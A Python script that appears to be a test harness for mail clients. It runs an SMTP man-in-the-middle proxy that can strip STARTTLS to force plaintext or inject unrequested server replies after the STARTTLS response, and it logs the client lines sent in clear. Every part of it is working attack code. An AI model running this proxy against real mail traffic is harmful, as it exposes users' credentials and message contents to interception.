"""A path to a mail host that may be hostile.

Usage: wire.py LISTEN TARGET MODEFILE LOG. The mode is read per connection:
  pass   bytes go through untouched
  strip  STARTTLS is taken out of the EHLO reply, and refused with 454 when asked for all the same
  inject the 220 to STARTTLS is followed, in the same segment, by replies that the client has not asked for yet
LOG gets one line `MODE C: text` for each line a client sends in clear, so that a story can tell what leaked.
"""
import pathlib
import socket
import sys
import threading


def address(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


listen, target = address(sys.argv[1]), address(sys.argv[2])
mode_file, log_file = pathlib.Path(sys.argv[3]), open(sys.argv[4], "ab", buffering=0)


def copy(source, sink):
    try:
        while data := source.recv(65536):
            sink.sendall(data)
    except OSError:
        pass
    finally:
        for end in (source, sink):
            try:
                end.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass


def from_server(server, client):
    """Replies, line by line, without STARTTLS; the last line of a reply keeps its space."""
    reply = []
    for line in server.makefile("rb"):
        reply.append(line)
        if line[3:4] == b"-":
            continue
        kept = [l for l in reply if l[4:].strip().upper() != b"STARTTLS"]
        if kept:
            kept[-1] = kept[-1][:3] + b" " + kept[-1][4:]
        client.sendall(b"".join(kept))
        reply = []


def from_client(client, server):
    for line in client.makefile("rb"):
        log_file.write(b"strip C: " + line.rstrip() + b"\n")
        if line.strip().upper() == b"STARTTLS":
            client.sendall(b"454 4.7.0 TLS not available\r\n")
        else:
            server.sendall(line)


def injecting(client, server):
    """Everything goes through; what the server says to STARTTLS comes with what it would say to the commands after."""
    asked, injected = threading.Event(), b"250 mxwire.example\r\n250 2.1.0 Ok\r\n250 2.1.5 Ok\r\n354 Go on\r\n"

    def forth():
        try:
            while data := client.recv(65536):
                if not asked.is_set():
                    for line in data.splitlines():
                        log_file.write(b"inject C: " + line + b"\n")
                    if data.upper().endswith(b"STARTTLS\r\n"):
                        asked.set()
                server.sendall(data)
        except OSError:
            pass
        server.shutdown(socket.SHUT_WR)

    thread = threading.Thread(target=forth)
    thread.start()
    done = False
    while data := server.recv(65536):
        if asked.is_set() and not done and data.startswith(b"220"):
            data, done = data + injected, True
        client.sendall(data)
    client.shutdown(socket.SHUT_WR)
    thread.join()


def guarded(work, source, sink):
    try:
        work(source, sink)
    except OSError:
        pass
    for end in (source, sink):
        try:
            end.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass


def serve(client):
    mode = mode_file.read_text().strip()
    log_file.write(mode.encode() + b" connected\n")
    try:
        server = socket.create_connection(target)
    except OSError:
        client.close()
        return
    if mode == "strip":
        pairs = ((from_client, client, server), (from_server, server, client))
        threads = [threading.Thread(target=guarded, args=p) for p in pairs]
    elif mode == "inject":
        threads = [threading.Thread(target=guarded, args=(injecting, client, server))]
    else:
        threads = [threading.Thread(target=copy, args=p) for p in ((client, server), (server, client))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    client.close()
    server.close()


with socket.create_server(listen, backlog=64) as door:
    while True:
        connection, _ = door.accept()
        threading.Thread(target=serve, args=(connection,), daemon=True).start()
